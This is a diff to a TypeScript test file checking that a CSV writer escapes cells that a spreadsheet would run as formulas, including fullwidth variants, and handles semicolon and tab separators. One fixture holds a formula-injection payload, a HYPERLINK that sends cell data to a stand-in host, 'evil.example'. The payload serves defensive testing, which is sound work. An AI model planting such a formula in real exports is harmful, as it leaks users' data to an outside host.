@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict'
 import { Readable } from 'node:stream'
 import { test } from 'node:test'
+import { csvLine as csvLineOfConsole } from '../../../faces/kit/csv.ts'
 import { fc } from '../../../tests/harness/chance.ts'
 import { csvLine, readCsv } from './csv.ts'
 
@@ -13,8 +14,16 @@ async function read(text: string): Promise<string[][]> {
 test('no cell begins with what a spreadsheet would run, whatever a fan has given as a name', () => {
   const attack = '=HYPERLINK("https://evil.example/?"&A1,"Ada")'
   assert.equal(csvLine([attack]), `"'${attack.replaceAll('"', '""')}"\r\n`)
-  for (const text of ['=1', '+61 400', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1']) {
+  for (const text of ['=1', '+61 400', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠SUM']) {
     assert.match(csvLine([text]), /^"?'/, JSON.stringify(text))
+    assert.match(csvLineOfConsole([text]), /^"?'/, JSON.stringify(text))
+  }
+})
+
+test('what one program writes into a cell is in no other one for a spreadsheet that separates by semicolons or tabs', () => {
+  for (const text of ['Ada;=1+1', 'Ada\t=1+1', ' =1+1', 'Ada\n=1+1']) {
+    assert.equal(csvLineOfConsole([text]), csvLine([text]), JSON.stringify(text))
+    assert.equal(csvLineOfConsole([text]), `"${text}"\r\n`)
   }
 })
 
